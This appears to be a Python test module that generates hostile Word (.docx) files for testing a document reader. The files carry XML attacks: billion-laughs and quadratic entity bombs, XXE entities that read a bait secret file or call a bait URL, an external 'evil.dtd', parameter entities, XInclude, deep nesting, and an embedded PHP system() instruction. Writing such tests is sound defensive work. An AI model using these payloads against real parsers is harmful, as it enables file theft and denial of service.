"""XML inside Word files: entities, external references by the parser, nesting, absurd shapes."""

from __future__ import annotations

from tests.hostile.archives import repacked
from tests.hostile.case import Bait, case
from tests.read.docx_builder import SPACES, docx, p

PLAN = docx(p("Handlingsplan mot brott"))


def document(doctype: str, body: str, encoding: str = "UTF-8") -> bytes:
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?>{doctype}<w:document {SPACES}><w:body>{body}</w:body></w:document>'
    )
    return repacked(PLAN, {"word/document.xml": text.encode(encoding)})


@case("xml-billion-laughs.docx", "hostile")
def laughs(bait: Bait) -> bytes:
    lines = ['<!ENTITY l0 "ha">', *(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))]
    return document(f"<!DOCTYPE d [{''.join(lines)}]>", p("&l11;"))


@case("xml-quadratic.docx", "hostile")
def quadratic(bait: Bait) -> bytes:
    return document(f'<!DOCTYPE d [<!ENTITY a "{"a" * 50_000}">]>', p("&a;" * 50_000))


@case("xml-xxe-file.docx", "hostile")
def xxe_file(bait: Bait) -> bytes:
    return document(f'<!DOCTYPE d [<!ENTITY x SYSTEM "{bait.secret.as_uri()}">]>', p("&x;"))


@case("xml-xxe-http.docx", "hostile")
def xxe_http(bait: Bait) -> bytes:
    return document(f'<!DOCTYPE d [<!ENTITY x SYSTEM "{bait.url}/xxe">]>', p("&x;"))


@case("xml-external-dtd.docx", "hostile")
def dtd(bait: Bait) -> bytes:
    return document(f'<!DOCTYPE d SYSTEM "{bait.url}/evil.dtd">', p("Plan"))


@case("xml-parameter-entities.docx", "hostile")
def parameters(bait: Bait) -> bytes:
    inner = f'<!ENTITY % f SYSTEM "{bait.secret.as_uri()}"><!ENTITY % e SYSTEM "{bait.url}/e.dtd">%e;'
    return document(f"<!DOCTYPE d [{inner}]>", p("Plan"))


@case("xml-entity-in-utf16.docx", "hostile")
def utf16(bait: Bait) -> bytes:
    return document(f'<!DOCTYPE d [<!ENTITY x SYSTEM "{bait.secret.as_uri()}">]>', p("&x;"), "UTF-16")


@case("xml-entity-in-styles.docx", "hostile")
def styles(bait: Bait) -> bytes:
    part = f'<!DOCTYPE d [<!ENTITY x SYSTEM "{bait.secret.as_uri()}">]><w:styles {SPACES}>&x;</w:styles>'
    return docx(p("Plan"), parts={"styles": part})


@case("xml-entity-in-relations.docx", "hostile")
def relations(bait: Bait) -> bytes:
    part = f'<!DOCTYPE d [<!ENTITY x SYSTEM "{bait.secret.as_uri()}">]><Relationships>&x;</Relationships>'
    return repacked(PLAN, {"word/_rels/document.xml.rels": part})


@case("xml-xinclude.docx", "done", holds=("Handlingsplan",))
def xinclude(bait: Bait) -> bytes:
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{bait.secret.as_uri()}"/>'
    return docx(p("Handlingsplan") + f"<w:p><w:r><w:t>{include}</w:t></w:r></w:p>")


@case("xml-stylesheet.docx", "done", holds=("Handlingsplan",))
def stylesheet(bait: Bait) -> bytes:
    with_pi = f'<?xml-stylesheet href="{bait.url}/x.xsl" type="text/xsl"?>'
    return document(with_pi, p("Handlingsplan"))


@case("xml-schema-location.docx", "done", holds=("Handlingsplan",))
def schema(bait: Bait) -> bytes:
    xsi = "http://www.w3.org/2001/XMLSchema-instance"
    return docx(f'<w:p xmlns:xsi="{xsi}" xsi:schemaLocation="urn:x {bait.url}/x.xsd"/>' + p("Handlingsplan"))


@case("xml-deep.docx", "hostile")
def deep(bait: Bait) -> bytes:
    return docx("<w:sdt><w:sdtContent>" * 100_000 + p("Plan") + "</w:sdtContent></w:sdt>" * 100_000)


@case("xml-100000-attributes.docx", "done", "hostile", "truncated")
def attributes(bait: Bait) -> bytes:
    many = " ".join(f'a{n}="1"' for n in range(100_000))
    return docx(p("Plan") + f"<w:p {many}/>")


@case("xml-20000-namespaces.docx", "done", "hostile", "truncated")
def namespaces(bait: Bait) -> bytes:
    many = " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(20_000))
    return docx(p("Plan") + f"<w:p {many}/>")


@case("xml-huge-text-node.docx", "truncated", "hostile", "too-large")
def huge_text(bait: Bait) -> bytes:
    # Hardly packable, so that it is no bomb: the text itself is too much.
    words = " ".join(f"{n * 2654435761 % 2**32:x}" for n in range(1_400_000))
    return docx(p(words))


@case("xml-comments-and-instructions.docx", "done", holds=("Handlingsplan",))
def comments(bait: Bait) -> bytes:
    return docx("<!-- x --><?php system('touch'); ?>" * 20_000 + p("Handlingsplan"))


@case("xml-unclosed.docx", "truncated")
def unclosed(bait: Bait) -> bytes:
    return docx("<w:p><w:r><w:t>Plan")


@case("xml-control-characters.docx", "truncated")
def control(bait: Bait) -> bytes:
    return docx(p("Plan &#0; &#27; &#xFFFF; &#xD800;"))


@case("xml-other-root.docx", "truncated")
def root(bait: Bait) -> bytes:
    return repacked(PLAN, {"word/document.xml": "<html><body>hej</body></html>"})
